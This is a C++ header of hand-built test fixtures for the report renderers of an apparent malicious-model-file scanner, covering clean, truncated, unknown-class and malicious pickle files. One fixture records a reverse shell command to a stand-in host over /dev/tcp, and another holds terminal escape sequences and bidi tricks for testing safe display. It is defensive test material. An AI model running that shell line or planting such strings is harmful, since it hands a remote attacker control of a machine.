// Reports made by hand, for the renderers' tests: one of each situation that a screen must carry.
#pragma once

#include <string>

#include "brine/report.h"

namespace brine::render {

inline Finding reverse_shell() {
  Finding f;
  f.code = 201;
  f.severity = Severity::critical;
  f.title = "starts a process";
  f.member = {"ballr7/data.pkl"};
  f.offset = 61;
  f.file_offset = 125;
  f.opcode = "REDUCE";
  f.callable = "posix.system";
  f.capabilities = {"process"};
  f.evidence = {{"arguments", "('/bin/sh -i >& /dev/tcp/c2.invalid/4444 0>&1',)"},
                {"command", "/bin/sh -i >& /dev/tcp/c2.invalid/4444 0>&1"},
                {"address", "c2.invalid:4444"}};
  f.loader = "torch.load";
  f.verdict = Verdict::malicious;
  return f;
}

inline Finding broken_stream() {
  Finding f;
  f.code = 310;
  f.severity = Severity::high;
  f.title = "the stream breaks: BINUNICODE wants 4 bytes, 1 is left";
  f.member = {"ballr7/data.pkl"};
  f.offset = 118;
  f.file_offset = 182;
  f.opcode = "BINUNICODE";
  f.loader = "torch.load";
  f.verdict = Verdict::incomplete;
  return f;
}

inline FileReport malicious_file() {
  FileReport file;
  file.path = "downloads/ballr7/pytorch_model.bin";
  file.size = 12'345;
  file.verdict = Verdict::malicious;
  file.kind = "torch zip";
  file.views = {{"torch.load", {"ballr7/data.pkl"}, "broken", 118, "pickle data was truncated"},
                {"torch.load(weights_only)",
                 {"ballr7/data.pkl"},
                 "refused",
                 2,
                 "Unsupported global: posix.system"}};
  file.findings = {reverse_shell(), broken_stream()};
  const std::string refusal = "Unsupported global: GLOBAL posix.system";
  file.weights_only = {
      {"1.13", false, refusal, 2, "GLOBAL"},
      {"2.6", std::nullopt, "an archive that releases may read differently", {}, ""},
      {"2.13", false, refusal, 2, "GLOBAL"}};
  file.coverage = {12'345, 182, 12'000, {{182, 345}}};
  file.bytes_read = 4'200;
  return file;
}

inline FileReport clean_file(const std::string& path) {
  FileReport file;
  file.path = path;
  file.size = 438'000'000;
  file.verdict = Verdict::clean;
  file.kind = "safetensors, 201 tensors, 438 MB data";
  file.coverage = {438'000'000, 20'000, 437'980'000, {}};
  file.bytes_read = 20'000;
  return file;
}

inline FileReport unknown_class_file() {
  Finding f;
  f.code = 120;
  f.severity = Severity::medium;
  f.title = "unknown class mycompany.features.Encoder: its code runs when this file loads";
  f.offset = 1204;
  f.file_offset = 1204;
  f.opcode = "GLOBAL";
  f.callable = "mycompany.features.Encoder";
  f.advice = "if it is yours: brine scan --trust 'mycompany.features.*'";
  f.loader = "joblib.load";
  f.verdict = Verdict::suspicious;
  FileReport file;
  file.path = "downloads/old/rf.joblib";
  file.size = 90'000;
  file.verdict = Verdict::suspicious;
  file.kind = "joblib";
  file.views = {{"joblib.load", {}, "stop", 90'000, ""}};
  file.findings = {f};
  file.coverage = {90'000, 90'000, 0, {}};
  file.bytes_read = 90'000;
  return file;
}

// Every text in it wants to be something else.
inline FileReport hostile_file() {
  Finding f;
  f.code = 202;
  f.severity = Severity::critical;
  f.title = "runs code\x1b[2K\rharmless";
  f.member = {"a\nclean", "\xff.pkl"};
  f.offset = 7;
  f.opcode = "REDUCE";
  f.callable = "builtins.exec\xe2\x80\xae";
  f.evidence = {{"arguments", "('import os\\nos.system(1)',)"},
                {"code", "import os\n\tos.system('\x1b]0;title\x07')\r\nprint(1)"},
                {"url", std::string(5000, 'u')}};
  f.verdict = Verdict::malicious;
  FileReport file;
  file.path = "dir/model\n\xe2\x80\xae.tp\xff";
  file.size = 64;
  file.verdict = Verdict::malicious;
  file.kind = "pickle \x1b[31m";
  file.findings = {f};
  file.findings_dropped = 12;
  file.coverage = {64, 64, 0, {}};
  file.bytes_read = 64;
  return file;
}

inline Report mixed_report() {
  Report report;
  report.files = {clean_file("downloads/bert/model.safetensors"), malicious_file(),
                  unknown_class_file()};
  FileReport trusted = clean_file("downloads/mine.pkl");
  trusted.kind = "pickle, protocol 4";
  trusted.waived = {"mypkg.models.Net"};
  report.files.push_back(trusted);
  FileReport gone;
  gone.path = "downloads/gone.pt";
  gone.kind = "";
  report.files.push_back(gone);
  report.errors = {{"downloads/gone.pt", "cannot read: no such file"}};
  report.summary = {5, 2'100'000'000, 18'000'000, 0.3104, 2, 0, 1, 1, 1};
  return report;
}

}  // namespace brine::render
